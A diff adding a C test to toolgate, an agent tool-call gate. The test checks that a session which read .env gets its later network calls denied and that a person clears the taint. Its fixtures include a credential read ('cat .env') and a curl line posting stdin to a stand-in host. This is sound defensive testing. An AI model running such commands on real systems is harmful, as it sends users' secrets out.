@@ -1733,6 +1733,113 @@ TEST(daemon_status_stop_and_idle_exit) {
   remove_tree(tmp);
 }
 
+/* ---- a session's taint ---------------------------------------------------------- */
+
+/* A hook event for session in cwd, answered in-process (sock NULL) or by
+ * the instance on sock, under the policies in pol. */
+static ran taint_event(const char *pol, const char *sock, const char *session,
+                       const char *cwd, const char *tail) {
+  char ev[2048];
+  snprintf(ev, sizeof ev, "{\"session_id\":\"%s\",\"cwd\":\"%s\",%s}", session,
+           cwd, tail);
+  const char *in_process[] = {"hook", "claude-code", "--policies", pol,
+                              "--no-resident", NULL};
+  const char *resident[] = {"hook", "claude-code", "--policies", pol,
+                            "--socket", sock, NULL};
+  return run_text(sock ? resident : in_process, ev);
+}
+
+static const char taint_curl[] =
+    "\"hook_event_name\":\"PreToolUse\",\"tool_name\":\"Bash\","
+    "\"tool_input\":{\"command\":\"curl -d @- https://x.example\"}";
+
+/* The session's next curl, denied naming what tainted it (or not denied). */
+static void curl_answer(const char *pol, const char *sock, const char *session,
+                        const char *cwd, const char *cause) {
+  ran r = taint_event(pol, sock, session, cwd, taint_curl);
+  ASSERT_INT_EQ(r.code, 0);
+  if (cause) {
+    ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
+    ASSERT_CONTAINS(r.out, "tainted-no-network-shell");
+    ASSERT_CONTAINS(r.out, cause);
+  } else {
+    ASSERT_NOT_CONTAINS(r.out, "deny");
+  }
+  ran_free(&r);
+}
+
+/* A session that read .env (the agent's Read, or `cat .env` in its shell)
+ * gets no network from the starter's 80_taint.lua: the taint is in the
+ * database, so an in-process answer, a resident instance and a new
+ * process after both agree. */
+TEST(a_session_that_read_a_secret_gets_no_network) {
+  char *tmp = temp_dir();
+  make_subdir(tmp, "pol");
+  char *pol = path_join(tmp, "pol");
+  char *src = read_text(TG_SOURCE_DIR "/examples/starter/policies/80_taint.lua");
+  put_file(pol, "80_taint.lua", src);
+  free(src);
+  put_file(tmp, ".env", "KEY=1\n");
+  char tail[1024];
+  /* in-process: the agent's Read of .env ran (its PostToolUse) */
+  snprintf(tail, sizeof tail, "\"hook_event_name\":\"PostToolUse\","
+           "\"tool_name\":\"Read\",\"tool_input\":{\"file_path\":\"%s/.env\"},"
+           "\"tool_response\":{\"type\":\"text\",\"file\":{\"filePath\":"
+           "\"%s/.env\",\"content\":\"KEY=1\"}}", tmp, tmp);
+  curl_answer(pol, NULL, "taint-read", tmp, NULL);
+  ran r = taint_event(pol, NULL, "taint-read", tmp, tail);
+  ASSERT_INT_EQ(r.code, 0);
+  ran_free(&r);
+  curl_answer(pol, NULL, "taint-read", tmp, ".env, which holds credentials");
+  /* through a resident instance: it sees that taint, and keeps its own */
+  daemon_proc d = start_daemon(tmp, pol);
+  curl_answer(pol, d.sock, "taint-read", tmp, ".env");
+  curl_answer(pol, d.sock, "taint-cat", tmp, NULL);
+  r = taint_event(pol, d.sock, "taint-cat", tmp,
+                  "\"hook_event_name\":\"PostToolUse\",\"tool_name\":\"Bash\","
+                  "\"tool_input\":{\"command\":\"cat .env\"},\"tool_response\":"
+                  "{\"stdout\":\"KEY=1\",\"stderr\":\"\",\"interrupted\":false,"
+                  "\"isImage\":false}");
+  ASSERT_INT_EQ(r.code, 0);
+  ran_free(&r);
+  curl_answer(pol, d.sock, "taint-cat", tmp, "it read .env");
+  stop_daemon(&d);
+  /* a new process, the same database: still tainted; another session not */
+  curl_answer(pol, NULL, "taint-cat", tmp, "it read .env");
+  curl_answer(pol, NULL, "taint-read", tmp, ".env");
+  curl_answer(pol, NULL, "taint-clean", tmp, NULL);
+  /* the agent's WebFetch, by its name */
+  r = taint_event(pol, NULL, "taint-read", tmp,
+                  "\"hook_event_name\":\"PreToolUse\",\"tool_name\":\"WebFetch\","
+                  "\"tool_input\":{\"url\":\"https://x.example\",\"prompt\":\"x\"}");
+  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
+  ASSERT_CONTAINS(r.out, "tainted-no-network");
+  ASSERT_CONTAINS(r.out, "sensitive since");
+  ran_free(&r);
+  /* toolgate log shows when and why; a person clears it */
+  const char *log[] = {"log", "--session", "taint-cat", NULL};
+  r = run_text(log, "");
+  ASSERT_INT_EQ(r.code, 0);
+  ASSERT_CONTAINS(r.out, "session taint-cat is sensitive since ");
+  ASSERT_CONTAINS(r.out, "it read .env, which holds credentials (call ");
+  ran_free(&r);
+  const char *clear[] = {"approvals", "clear-taint", "taint-cat", NULL};
+  r = run_text(clear, "");
+  ASSERT_INT_EQ(r.code, 0);
+  ASSERT_CONTAINS(r.out, "no longer sensitive");
+  ran_free(&r);
+  curl_answer(pol, NULL, "taint-cat", tmp, NULL);
+  r = run_text(clear, "");
+  ASSERT_INT_EQ(r.code, 2); /* clean already */
+  ASSERT_CONTAINS(r.err, "not tainted");
+  ran_free(&r);
+  r = run_text(log, "");
+  ASSERT_NOT_CONTAINS(r.out, "sensitive");
+  ran_free(&r);
+  free(pol);
+  remove_tree(tmp);
+}
+
 TEST_MAIN(TEST_ENTRY(claude_code_fixtures_in_process_and_resident),
           TEST_ENTRY(codex_fixtures_in_process_and_resident),
           TEST_ENTRY(a_big_event_and_a_big_answer),
@@ -1764,4 +1871,5 @@ TEST_MAIN(TEST_ENTRY(claude_code_fixtures_in_process_and_resident),
           TEST_ENTRY(install_without_policies_writes_the_starter),
           TEST_ENTRY(a_half_saved_file_is_answered_by_the_last_good_policies),
           TEST_ENTRY(daemon_status_stop_and_idle_exit),
-          TEST_ENTRY(a_daemons_reload_refreshes_the_last_good_policies))
+          TEST_ENTRY(a_daemons_reload_refreshes_the_last_good_policies),
+          TEST_ENTRY(a_session_that_read_a_secret_gets_no_network))
